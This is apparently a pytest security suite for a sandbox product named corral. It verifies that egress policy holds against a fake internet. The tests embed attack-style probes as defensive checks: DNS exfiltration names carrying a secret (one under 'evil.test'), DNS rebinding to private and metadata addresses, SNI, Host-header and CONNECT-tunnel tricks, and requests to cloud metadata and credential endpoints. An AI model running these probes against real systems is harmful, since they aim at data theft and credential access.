"""Egress from real sandboxes goes only where its policy says, against a fake internet: DNS cannot
carry data out, name tricks fail, the host, metadata and other sandboxes stay unreachable — from a
container and from a microvm alike (what the resolver and proxy decide alone is checked once)."""

from __future__ import annotations

import hashlib
import json
import shlex
import subprocess
import time
from collections.abc import Iterator
from typing import Any

import pytest

from corral import Sandbox
from corral.errors import InvalidRequestError
from tests.conftest import Conn
from tests.integration.fake_internet import FakeInternet
from tests.integration.server_harness import RunningServer, verify_identity_token
from tests.integration.tiers import container_only, sdk_args

pytestmark = [pytest.mark.security, pytest.mark.usefixtures("server_no_leaks")]

ALLOWED_IP = "198.51.100.10"  # allowed.test
BLOCKED_IP = "198.51.100.11"  # blocked.test
CURL_TIMEOUT_EXIT = 28  # curl's "operation timed out": a block must never look like this


@pytest.fixture
def make(
    conn: Conn, base_template: str, fake_net: FakeInternet, isolation: dict[str, Any]
) -> Iterator[Any]:
    """Sandboxes of the test's tier; a microvm's packets leave through the same veth, rules and
    proxy as a container's, so every probe must end the same way."""
    made: list[Sandbox] = []

    def _make(network: dict[str, Any] | None = None) -> Sandbox:
        sbx = Sandbox.create(
            base_template, network=network, timeout=300, **sdk_args(isolation), **conn
        )
        made.append(sbx)
        sbx.files.write("/etc/corral-test-ca.pem", fake_net.ca_pem)
        return sbx

    yield _make
    for sbx in made:
        sbx.kill()


def sh(sbx: Sandbox, cmd: str, timeout: float = 60) -> tuple[int, str]:
    r = sbx.exec(cmd, timeout=timeout)
    return (r.exit_code if r.exit_code is not None else -1), r.stdout + r.stderr


def curl(sbx: Sandbox, *args: str) -> tuple[int, str]:
    """curl with a deadline far above any fail-fast path, so that a hang shows as exit 28."""
    quoted = " ".join(shlex.quote(a) for a in args)
    return sh(sbx, f"curl -sS --max-time 15 --cacert /etc/corral-test-ca.pem {quoted}")


def service_ip(sbx: Sandbox) -> str:
    proxy = sbx.info().raw["network"]["proxy"]
    return str(proxy).removeprefix("http://").rsplit(":", 1)[0]


def py(sbx: Sandbox, code: str, timeout: float = 60) -> tuple[int, str]:
    return sh(sbx, f"python3 -c {shlex.quote(code)}", timeout)


ALLOW_ALLOWED = {"allow": [{"domain": "allowed.test"}, {"domain": "*.allowed.test"}]}


# ------------------------------------------------------------------- allowed names work


def test_allowed_name_works_over_http_https_and_connect(make: Any, fake_net: FakeInternet) -> None:
    sbx = make(ALLOW_ALLOWED)
    code, out = curl(sbx, "http://allowed.test/plain")
    assert code == 0 and f"hello from {ALLOWED_IP} host=allowed.test" in out, out
    code, out = curl(sbx, "https://www.allowed.test/tls")
    assert code == 0 and "sni=www.allowed.test" in out, out
    proxy = f"http://{service_ip(sbx)}:3128"
    code, out = curl(sbx, "-x", proxy, "https://allowed.test/connect")
    assert code == 0 and "sni=allowed.test" in out, out
    code, out = curl(sbx, "-x", proxy, "http://allowed.test/absolute")
    assert code == 0 and "host=allowed.test" in out, out
    paths = [r["path"] for r in fake_net.requests()]
    assert {"/plain", "/tls", "/connect", "/absolute"} <= set(paths)


def test_blocked_name_fails_fast_and_is_logged(make: Any, fake_net: FakeInternet) -> None:
    # The fake internet is the session's: count only what this test made it hear.
    heard = len(fake_net.queries())
    sbx = make(ALLOW_ALLOWED)
    for url in ("http://blocked.test/", "https://blocked.test/"):
        code, out = curl(sbx, url)
        assert code not in (0, CURL_TIMEOUT_EXIT), (url, out)
    # Resolving it at all fails, without the upstream hearing of it.
    code, _ = sh(sbx, "getent hosts blocked.test")
    assert code != 0
    assert "blocked.test" not in fake_net.queries()[heard:]
    assert not [r for r in fake_net.requests() if r["server"] == BLOCKED_IP]
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline:
        log = sbx.network.log()
        if any(e.kind == "dns" and e.decision == "deny" and e.name == "blocked.test" for e in log):
            break
        time.sleep(0.2)
    else:
        pytest.fail(f"no deny event for blocked.test in {log}")


# ------------------------------------------------------------------------- DNS


def test_deny_all_resolves_nothing_and_asks_nobody(make: Any, fake_net: FakeInternet) -> None:
    sbx = make(None)
    before = len(fake_net.queries())
    for name in ("allowed.test", "blocked.test", "example.com"):
        code, _ = sh(sbx, f"getent hosts {name}")
        assert code != 0, name
    # Even a query sent straight at some other resolver lands on corral's, and is refused there.
    code, out = py(
        sbx,
        "import socket,struct;s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);s.settimeout(5);"
        "q=struct.pack('>HHHHHH',7,0x100,1,0,0,0)+b'\\x07allowed\\x04test\\x00\\x00\\x01\\x00\\x01';"
        "s.sendto(q,('198.51.100.53',53));d=s.recv(512);print('rcode',d[3]&15)",
    )
    assert code == 0 and "rcode 3" in out, out  # NXDOMAIN, answered locally
    assert len(fake_net.queries()) == before


@container_only  # the resolver's or the proxy's own decision
def test_exfiltration_names_never_reach_the_upstream(make: Any, fake_net: FakeInternet) -> None:
    sbx = make(ALLOW_ALLOWED)
    secret = "s3cr3t" + str(time.time_ns())
    for name in (
        f"{secret}.blocked.test",
        f"{secret}.test",
        f"{secret}.allowed.test.evil.test",
        f"allowed.test.{secret}.test",
    ):
        for qtype in ("hosts", "ahosts"):
            sh(sbx, f"getent {qtype} {name}")
        sh(sbx, f"curl -s --max-time 5 http://{name}/")
    assert not [q for q in fake_net.queries() if secret in q]


@container_only  # the resolver's or the proxy's own decision
def test_dns_rebinding_to_private_addresses_is_refused(make: Any) -> None:
    sbx = make(
        {
            "allow": [
                {"domain": "rebind-loopback.test"},
                {"domain": "rebind-private.test"},
                {"domain": "rebind-metadata.test"},
            ]
        }
    )
    for name in ("rebind-loopback.test", "rebind-private.test", "rebind-metadata.test"):
        code, out = sh(sbx, f"getent hosts {name}")
        assert code != 0 or not out.strip(), (name, out)
        code, out = curl(sbx, f"http://{name}/")
        assert code not in (0, CURL_TIMEOUT_EXIT), (name, out)


# ------------------------------------------------------------------- name tricks


def test_ip_literals_are_refused_without_a_cidr_rule(make: Any, fake_net: FakeInternet) -> None:
    sbx = make(ALLOW_ALLOWED)
    for url in (f"http://{ALLOWED_IP}/", f"https://{ALLOWED_IP}/", "http://203.0.113.10/"):
        code, out = curl(sbx, "-k", url)
        assert code not in (0, CURL_TIMEOUT_EXIT), (url, out)
    # ...and allowed by one.
    sbx.network.update({"allow": [{"cidr": "203.0.113.10/32", "ports": [80]}]})
    code, out = curl(sbx, "http://203.0.113.10/literal")
    assert code == 0 and "hello from 203.0.113.10" in out, out


@container_only  # the resolver's or the proxy's own decision
def test_sni_host_and_absolute_uri_tricks_fail(make: Any, fake_net: FakeInternet) -> None:
    sbx = make(ALLOW_ALLOWED)
    # Allowed SNI, but the connection was aimed at the blocked host's address: it ends up at the
    # allowed host (corral resolves the name itself), never at the blocked one.
    code, out = curl(sbx, "--resolve", f"allowed.test:443:{BLOCKED_IP}", "https://allowed.test/a")
    assert code == 0 and f"hello from {ALLOWED_IP}" in out, out
    # Blocked SNI towards the allowed host's address.
    code, out = curl(
        sbx, "-k", "--resolve", f"blocked.test:443:{ALLOWED_IP}", "https://blocked.test/b"
    )
    assert code not in (0, CURL_TIMEOUT_EXIT), out
    # Plain HTTP to the allowed address naming the blocked host.
    code, out = curl(sbx, "-H", "Host: blocked.test", "http://allowed.test/c")
    assert code not in (0, CURL_TIMEOUT_EXIT) and "hello" not in out, out
    # An absolute URI naming another host on a connection to an allowed one.
    code, out = py(
        sbx,
        "import socket;s=socket.create_connection(('allowed.test',80),timeout=10);"
        "s.sendall(b'GET http://blocked.test/d HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n');"
        "print(repr(s.recv(200)))",
    )
    assert "hello" not in out, out
    # CONNECT to an allowed name, then TLS to another one inside the tunnel.
    proxy = service_ip(sbx)
    code, out = py(
        sbx,
        "import socket,ssl;s=socket.create_connection(('" + proxy + "',3128),timeout=10);"
        "s.sendall(b'CONNECT allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n');"
        "print(s.recv(200));c=ssl.create_default_context(cafile='/etc/corral-test-ca.pem');"
        "t=c.wrap_socket(s,server_hostname='blocked.test');"
        "t.sendall(b'GET /e HTTP/1.1\\r\\nHost: blocked.test\\r\\n\\r\\n');print(t.recv(200))",
    )
    assert code != 0 and "hello" not in out, out
    assert not [r for r in fake_net.requests() if r["server"] == BLOCKED_IP]
    assert not [r for r in fake_net.requests() if r["path"] in ("/b", "/c", "/d", "/e")]


# ------------------------------------------------------------- never-reachable places


def test_host_api_metadata_and_other_sandboxes_are_unreachable(
    make: Any, server: RunningServer
) -> None:
    other = make({"preset": "public"})
    sh(other, "nohup python3 -m http.server 8080 >/dev/null 2>&1 &")
    other_ip = other.info().raw["network"]["address"]
    sbx = make({"preset": "public", "allow": [{"cidr": "0.0.0.0/0"}]})
    api_port = server.url.rsplit(":", 1)[1]
    svc = service_ip(sbx)
    targets = [
        # corral's own metadata endpoint answers on 169.254.169.254:80 (test below); every
        # other port there, and the rest of link-local space (ECS's credentials address), not.
        "http://169.254.169.254:81/latest/meta-data/",
        "http://169.254.170.2/v2/credentials",
        f"http://{svc}:{api_port}/healthz",
        f"http://{svc}:22/",
        f"http://192.0.2.2:{api_port}/healthz",  # the host's uplink address (this machine's)
        f"http://127.0.0.1:{api_port}/healthz",  # the sandbox's own loopback, not the host's
        f"http://{other_ip}:8080/",
        "http://10.0.0.1/",
    ]
    for url in targets:
        code, out = curl(sbx, "--connect-timeout", "5", url)
        assert code not in (0, CURL_TIMEOUT_EXIT), (url, out)
    # UDP and ICMP to the same places: refused, too.
    code, out = py(
        sbx,
        "import socket\n"
        f"for ip in ('169.254.169.254','{other_ip}','192.0.2.2','{svc}'):\n"
        "    s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);s.settimeout(2);s.connect((ip,9999))\n"
        "    s.send(b'x')\n"
        "    try: print(ip, s.recv(100))\n"
        "    except OSError as e: print(ip, 'refused', type(e).__name__)\n",
    )
    assert "b'" not in out, out


@container_only  # the resolver's or the proxy's own decision
def test_invalid_policy_update_keeps_the_old_one(make: Any) -> None:
    sbx = make(ALLOW_ALLOWED)
    for bad in (
        {"allow": [{"domain": "*"}]},
        {"allow": [{"domain": "*.com"}]},
        {"allow": [{"cidr": "10.0.0.0/33"}]},
        {"allow": [{"domain": "ok.test", "ports": [70000]}]},
        {"allow": [{"domain": "bad..name"}]},
    ):
        with pytest.raises(InvalidRequestError) as err:
            sbx.network.update(bad)
        assert "rule" in str(err.value).lower() or "allow" in str(err.value).lower(), err.value
    assert sbx.network.info().policy["allow"][0]["domain"] == "allowed.test"
    code, out = curl(sbx, "http://allowed.test/still")
    assert code == 0, out


@container_only  # the resolver's or the proxy's own decision
def test_policy_update_applies_to_new_connections_at_once(make: Any) -> None:
    sbx = make(None)
    code, _ = curl(sbx, "http://allowed.test/")
    assert code != 0
    sbx.network.update(ALLOW_ALLOWED)
    code, out = curl(sbx, "http://allowed.test/now")
    assert code == 0, out
    sbx.network.update({})
    code, out = curl(sbx, "http://allowed.test/gone")
    assert code not in (0, CURL_TIMEOUT_EXIT), out


# ------------------------------------------------------------------------ UDP, QUIC


def test_udp_needs_a_cidr_rule_and_quic_is_dropped(make: Any) -> None:
    sbx = make({"preset": "public"})
    probe = (
        "import socket\n"
        "s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);s.settimeout(3)\n"
        f"s.connect(('{ALLOWED_IP}',PORT));s.send(b'ping')\n"
        "try: print('got', s.recv(100))\n"
        "except OSError as e: print('failed', type(e).__name__)\n"
    )
    _, out = py(sbx, probe.replace("PORT", "9999"))
    assert "failed" in out and "timeout" not in out.lower(), out  # refused, not silently dropped
    sbx.network.update(
        {
            "preset": "public",
            "allow": [{"cidr": f"{ALLOWED_IP}/32", "protocol": "udp", "ports": [9999]}],
        }
    )
    _, out = py(sbx, probe.replace("PORT", "9999"))
    assert "got b'echo:ping'" in out, out
    _, out = py(sbx, probe.replace("PORT", "443"))  # QUIC's port: not in the rule
    assert "failed" in out, out
    # Both decisions are in the sandbox's egress log (the firewall reports them via NFLOG).
    deadline = time.monotonic() + 5
    seen: set[tuple[str, str, int | None]] = set()
    while time.monotonic() < deadline:
        seen = {(e.kind, e.decision, e.port) for e in sbx.network.log() if e.kind == "udp"}
        if {("udp", "allow", 9999), ("udp", "deny", 443)} <= seen:
            break
        time.sleep(0.2)
    assert {("udp", "allow", 9999), ("udp", "deny", 443), ("udp", "deny", 9999)} <= seen, seen


# --------------------------------------------------------------------- rate limit


def test_egress_rate_limit_holds_within_20_percent(make: Any) -> None:
    mbit = 16.0
    sbx = make({"allow": [{"cidr": f"{ALLOWED_IP}/32", "ports": [9000]}], "egress_mbit": mbit})
    code, out = py(
        sbx,
        "import socket,time\n"
        f"s=socket.create_connection(('{ALLOWED_IP}',9000),timeout=30)\n"
        "block=b'x'*65536;n=0;t=time.monotonic()\n"
        "while n < 8*1024*1024: s.sendall(block); n+=len(block)\n"
        "s.shutdown(socket.SHUT_WR);reply=s.recv(100).decode();el=time.monotonic()-t\n"
        "print(n, el, reply)\n",
        timeout=120,
    )
    assert code == 0, out
    sent, elapsed, received = out.split()[:3]
    assert int(received) == int(sent)
    rate_mbit = int(sent) * 8 / 1e6 / float(elapsed)
    assert mbit * 0.8 <= rate_mbit <= mbit * 1.2, (
        f"{rate_mbit:.1f} Mbit/s against a limit of {mbit}"
    )


# --------------------------------------------------------------------------- cleanup


def test_kill_leaves_no_network_state(
    conn: Conn, base_template: str, server: RunningServer, isolation: dict[str, Any]
) -> None:
    config = json.loads((server.data_dir / "server.json").read_text())["network"]
    sbx = Sandbox.create(
        base_template, network=ALLOW_ALLOWED, timeout=120, **sdk_args(isolation), **conn
    )
    netns = f"corral-{config['prefix']}-{sbx.id}"
    assert netns in subprocess.run(["ip", "netns"], capture_output=True, text=True).stdout
    sbx.kill()
    assert netns not in subprocess.run(["ip", "netns"], capture_output=True, text=True).stdout
    table = subprocess.run(
        ["nft", "list", "table", "inet", config["nft_table"]], capture_output=True, text=True
    ).stdout
    iface = config["prefix"] + hashlib.sha256(sbx.id.encode()).hexdigest()[:10]
    assert iface not in table and sbx.id not in table


# ------------------------------------------------------------- the metadata endpoint


def _imds(sbx: Sandbox, path: str, *, token: str | None = None, extra: str = "") -> tuple[int, str]:
    """GET http://169.254.169.254{path} from inside; (HTTP status, body)."""
    header = f"-H 'X-aws-ec2-metadata-token: {token}'" if token else ""
    code, out = sh(
        sbx,
        f"curl -sS --max-time 15 -w '\\n%{{http_code}}' {header} {extra} "
        f"'http://169.254.169.254{path}'",
    )
    assert code == 0, out
    body, _, status = out.rpartition("\n")
    return int(status), body


def _imds_token(sbx: Sandbox, extra: str = "") -> tuple[int, str]:
    code, out = sh(
        sbx,
        "curl -sS --max-time 15 -w '\\n%{http_code}' -X PUT "
        f"-H 'X-aws-ec2-metadata-token-ttl-seconds: 60' {extra} "
        "http://169.254.169.254/latest/api/token",
    )
    assert code == 0, out
    body, _, status = out.rpartition("\n")
    return int(status), body


def test_metadata_endpoint_knows_the_caller_by_its_namespace(
    make: Any, server: RunningServer
) -> None:
    a = make(None)  # no egress at all: the metadata endpoint is not egress
    b = make(None)
    assert _imds(a, "/latest/meta-data/sandbox-id")[0] == 401  # no session token, no answer
    status, _ = _imds_token(a, "-H 'X-Forwarded-For: 203.0.113.7'")
    assert status == 403  # relayed: refused
    status, token_a = _imds_token(a)
    assert status == 200 and token_a
    assert _imds(a, "/latest/meta-data/sandbox-id", token=token_a) == (200, a.id)
    # B presenting A's session token learns nothing of A; its own token gives its own identity.
    assert _imds(b, "/latest/meta-data/sandbox-id", token=token_a)[0] == 401
    _, token_b = _imds_token(b)
    assert _imds(b, "/latest/meta-data/sandbox-id", token=token_b) == (200, b.id)
    status, signed = _imds(b, "/latest/identity/token?audience=api.test", token=token_b)
    assert status == 200, signed
    # The external verifier: nothing but the server's published keys.
    claims = verify_identity_token(server, signed, "api.test")
    assert claims["sub"] == b.id and claims["exp"] - claims["iat"] <= 3600
    assert _imds(b, "/latest/identity/token", token=token_b)[0] == 400  # no audience
    assert _imds(b, "/latest/user-data", token=token_b)[0] == 404
